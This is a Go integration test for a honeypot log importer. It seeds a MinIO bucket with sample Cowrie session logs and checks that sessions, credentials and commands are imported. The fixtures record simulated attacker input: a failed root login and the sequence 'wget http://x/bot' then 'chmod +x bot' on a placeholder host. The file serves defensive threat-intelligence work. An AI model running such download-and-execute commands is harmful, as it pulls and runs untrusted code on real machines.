// Aegis Intel - Honeypot Session Reconstruction and Threat Intelligence
// Copyright 2026 Tom F. (tomtom215)
// SPDX-License-Identifier: AGPL-3.0-or-later
// https://github.com/tomtom215/aegis-intel

//go:build integration

package testinfra

import (
	"bytes"
	"context"
	"strings"
	"testing"
	"time"

	"github.com/klauspost/compress/gzip"

	"github.com/tomtom215/aegis-intel/internal/archive"
	"github.com/tomtom215/aegis-intel/internal/config"
	"github.com/tomtom215/aegis-intel/internal/database"
	"github.com/tomtom215/aegis-intel/internal/geoip"
	importer "github.com/tomtom215/aegis-intel/internal/import"
	"github.com/tomtom215/aegis-intel/internal/models"
)

const testBucket = "honeypot-logs"

func gzLines(t *testing.T, lines ...string) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := gzip.NewWriter(&buf)
	if _, err := zw.Write([]byte(strings.Join(lines, "\n") + "\n")); err != nil {
		t.Fatal(err)
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// noGeo leaves every session unlocated.
type noGeo struct{}

func (noGeo) Enrich(_ context.Context, sessions []*models.SessionState) geoip.EnrichStats {
	return geoip.EnrichStats{SourceMisses: len(sessions)}
}

func startMinIO(t *testing.T, ctx context.Context) (*MinIOContainer, *archive.S3Store) {
	t.Helper()

	minio, err := NewMinIOContainer(ctx, WithStartTimeout(90*time.Second))
	if err != nil {
		t.Fatalf("Failed to create MinIO container: %v", err)
	}
	t.Cleanup(func() { CleanupContainer(t, context.Background(), minio.Container) })

	if info, err := GetContainerInfo(ctx, minio.Container); err == nil {
		t.Logf("MinIO container %s started at %s", info.ID, minio.Endpoint)
	}

	client, err := minio.S3Client(ctx)
	if err != nil {
		t.Fatalf("S3Client: %v", err)
	}

	objects := map[string][]byte{
		"cowrie/date=2024-03-01/cowrie.json.0001.log.gz": gzLines(t,
			`{"session":"s1","eventid":"cowrie.session.connect","src_ip":"198.51.100.7","timestamp":"2024-03-01T10:00:00Z"}`,
			`{"session":"s1","eventid":"cowrie.login.failed","username":"root","password":"toor"}`,
			`{"session":"s1","eventid":"cowrie.command.input","input":"wget http://x/bot"}`,
		),
		"cowrie/date=2024-03-01/cowrie.json.0002.log.gz": gzLines(t,
			`{"session":"s1","eventid":"cowrie.command.input","input":"chmod +x bot"}`,
		),
		"cowrie/date=2024-03-02/cowrie.json.0001.log.gz": gzLines(t,
			`{"session":"s2","eventid":"cowrie.session.connect","src_ip":"203.0.113.9","timestamp":"2024-03-02T08:00:00Z"}`,
		),
		"cowrie/date=2024-03-02/notes.txt": []byte("not a log"),
	}
	if err := minio.Seed(ctx, client, testBucket, objects); err != nil {
		logs, _ := minio.Logs(ctx)
		t.Fatalf("Seed: %v\nContainer logs:\n%s", err, logs)
	}

	return minio, archive.NewS3Store(client, testBucket, "cowrie/", ".log.gz")
}

// TestMinIOArchive_Integration reads a seeded bucket through the S3 store and
// runs a full import against it.
func TestMinIOArchive_Integration(t *testing.T) {
	if testing.Short() {
		t.Skip("Skipping integration test in short mode")
	}

	SkipIfNoDocker(t)

	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Minute)
	defer cancel()

	_, store := startMinIO(t, ctx)

	partitions, err := store.ListPartitions(ctx)
	if err != nil {
		t.Fatalf("ListPartitions: %v", err)
	}
	if len(partitions) != 2 || partitions[0] != "2024-03-01" || partitions[1] != "2024-03-02" {
		t.Fatalf("partitions = %v", partitions)
	}

	keys, err := store.ListObjects(ctx, "2024-03-02")
	if err != nil {
		t.Fatalf("ListObjects: %v", err)
	}
	if len(keys) != 1 {
		t.Errorf("expected the .txt object to be filtered, got %v", keys)
	}

	opts := archive.DefaultOptions()
	opts.RetryInitialInterval = 10 * time.Millisecond
	source := archive.NewSource(store, opts)

	db, err := database.New(&config.DatabaseConfig{Path: ":memory:", MaxMemory: "256MB", Threads: 1})
	if err != nil {
		t.Fatalf("open database: %v", err)
	}
	defer db.Close()

	cfg := &config.ImportConfig{ChildPolicy: string(database.ParentNewOnly)}
	imp := importer.NewImporter(cfg, source, noGeo{}, db, importer.NewInMemoryProgress())
	stats, err := imp.Import(ctx)
	if err != nil {
		t.Fatalf("Import: %v", err)
	}
	if stats.Imported != 2 || stats.Sessions != 2 || stats.ObjectsFailed != 0 {
		t.Errorf("unexpected stats: %+v", stats)
	}

	counts, err := db.Counts(ctx)
	if err != nil {
		t.Fatalf("Counts: %v", err)
	}
	want := database.TableCounts{Sessions: 2, Credentials: 1, Commands: 2}
	if *counts != want {
		t.Errorf("counts = %+v, want %+v", *counts, want)
	}

	cmds, err := db.Commands(ctx, "s1")
	if err != nil {
		t.Fatalf("Commands: %v", err)
	}
	if len(cmds) != 2 || cmds[0] != "wget http://x/bot" {
		t.Errorf("commands should follow key order across objects, got %v", cmds)
	}
}
